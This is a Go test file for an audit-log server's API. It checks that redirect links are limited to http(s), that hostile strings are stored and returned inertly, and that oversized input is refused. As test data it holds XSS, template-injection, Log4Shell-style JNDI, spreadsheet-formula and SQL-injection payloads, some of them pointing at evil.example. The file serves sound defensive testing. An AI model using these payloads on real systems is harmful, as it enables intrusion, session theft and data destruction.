package server_test

import (
	"fmt"
	"net/http"
	"reflect"
	"strings"
	"testing"

	"github.com/auditlog/auditlog/audit"
	"github.com/auditlog/auditlog/server"
)

// TestRedirectURLOnlyHTTP: the "View update" link a dashboard renders must
// not be able to run script or leave the web.
func TestRedirectURLOnlyHTTP(t *testing.T) {
	e := newEnv(t, server.Config{})
	emitter := e.key("acme", audit.RoleEmitter)
	for i, u := range []string{
		"javascript:alert(document.cookie)",
		"JavaScript:alert(1)",
		" javascript:alert(1)",
		"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
		"vbscript:msgbox(1)",
		"file:///etc/passwd",
		"ftp://files.example.com/x",
		"//evil.example.com/x",
		"/relative/path",
		"https://",
		"https:evil.example.com",
	} {
		ev := fullEvent(fmt.Sprintf("u-%d", i), base)
		ev["redirectUrl"] = u
		e.wantError(emitter, ingestOne, map[string]any{"e": ev}, "BAD_USER_INPUT", "event.redirectUrl")
	}
	for i, u := range []string{"http://app.example.com/a", "HTTPS://app.example.com/a?b=<c>&d=\"e\""} {
		ev := fullEvent(fmt.Sprintf("ok-%d", i), base)
		ev["redirectUrl"] = u
		var res struct{ IngestEvent ingestResult }
		e.query(emitter, ingestOne, map[string]any{"e": ev}, &res)
		if !res.IngestEvent.Captured {
			t.Errorf("%s: %+v", u, res.IngestEvent)
		}
	}
	var total struct{ Events struct{ TotalCount int } }
	e.query(e.key("acme", audit.RoleViewer), `{ events(filter: {}) { totalCount } }`, nil, &total)
	if total.Events.TotalCount != 2 {
		t.Errorf("%d events stored, want the 2 with http(s) links", total.Events.TotalCount)
	}
}

// TestDashboardStringsStoredAsGiven: markup, formulas and template syntax
// are data: stored and returned byte for byte, never interpreted, in a
// JSON response a browser will not sniff as HTML.
func TestDashboardStringsStoredAsGiven(t *testing.T) {
	e := newEnv(t, server.Config{})
	hostile := []string{
		`<script>alert("x")</script>`,
		`<img src=x onerror=alert(1)>`,
		`=HYPERLINK("http://evil.example","click")`,
		`{{constructor.constructor('alert(1)')()}}`,
		`${jndi:ldap://evil.example/a}`,
		"Robert'); DROP TABLE events;--",
		"\u202egnp.exe",
		"tab\tnew\nline\r\\back\"quote",
	}
	ev := fullEvent("h-1", base)
	ev["description"] = strings.Join(hostile, " | ")
	ev["submodule"] = hostile[0]
	au := ev["actionUser"].(map[string]any)
	au["name"], au["userAgent"] = hostile[1], hostile[3]
	ev["details"] = map[string]any{"html": hostile[0], "nested": map[string]any{"formula": hostile[2], "list": []any{hostile[4], hostile[5]}}}
	var res struct{ IngestEvent ingestResult }
	e.query(e.key("acme", audit.RoleEmitter), ingestOne, map[string]any{"e": ev}, &res)
	if !res.IngestEvent.Captured {
		t.Fatalf("ingest: %+v", res.IngestEvent)
	}

	resp, body := postRaw(t, e, e.key("acme", audit.RoleViewer), `{ event(id: "h-1") { description submodule details actionUser { name userAgent } } }`)
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") || resp.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("Content-Type %q, X-Content-Type-Options %q", ct, resp.Header.Get("X-Content-Type-Options"))
	}
	if strings.Contains(body, "<script>") {
		t.Errorf("markup sent unescaped in JSON: %s", body)
	}
	var got struct {
		Event struct {
			Description, Submodule string
			Details                map[string]any
			ActionUser             struct{ Name, UserAgent string }
		}
	}
	e.query(e.key("acme", audit.RoleViewer), `{ event(id: "h-1") { description submodule details actionUser { name userAgent } } }`, nil, &got)
	if got.Event.Description != ev["description"] || got.Event.Submodule != hostile[0] ||
		got.Event.ActionUser.Name != hostile[1] || got.Event.ActionUser.UserAgent != hostile[3] ||
		!reflect.DeepEqual(got.Event.Details, ev["details"]) {
		t.Errorf("read back %+v\nwant the strings as sent", got.Event)
	}
}

// TestDetailsAndStringsBounded: oversized input is refused with the field
// named, and stores nothing.
func TestDetailsAndStringsBounded(t *testing.T) {
	e := newEnv(t, server.Config{})
	emitter := e.key("acme", audit.RoleEmitter)
	deep := map[string]any{"v": 1}
	for range audit.MaxDetailsDepth {
		deep = map[string]any{"d": deep}
	}
	many := map[string]any{}
	for i := range audit.MaxDetailsKeys + 1 {
		many[fmt.Sprintf("k%d", i)] = i
	}
	cases := map[string]struct {
		set   func(ev map[string]any)
		field string
	}{
		"details over 16 KiB": {func(ev map[string]any) {
			ev["details"] = map[string]any{"blob": strings.Repeat("x", audit.MaxDetailsBytes)}
		}, "event.details"},
		"details too deep":   {func(ev map[string]any) { ev["details"] = deep }, "event.details"},
		"details too wide":   {func(ev map[string]any) { ev["details"] = many }, "event.details"},
		"details not object": {func(ev map[string]any) { ev["details"] = []any{1, 2} }, "event.details"},
		"long description":   {func(ev map[string]any) { ev["description"] = strings.Repeat("d", 8193) }, "event.description"},
		"long user agent": {func(ev map[string]any) {
			ev["actionUser"].(map[string]any)["userAgent"] = strings.Repeat("u", 1025)
		}, "event.actionUser.userAgent"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			ev := fullEvent("b-1", base)
			c.set(ev)
			e.wantError(emitter, ingestOne, map[string]any{"e": ev}, "BAD_USER_INPUT", c.field)
		})
	}
	if status, _ := e.post(e.key("acme", audit.RoleViewer), `{ event(id: "b-1") { id } }`, nil); status != http.StatusOK {
		t.Fatalf("status %d", status)
	}
	var got struct{ Event *struct{ ID string } }
	e.query(e.key("acme", audit.RoleViewer), `{ event(id: "b-1") { id } }`, nil, &got)
	if got.Event != nil {
		t.Error("a refused event was stored")
	}
}
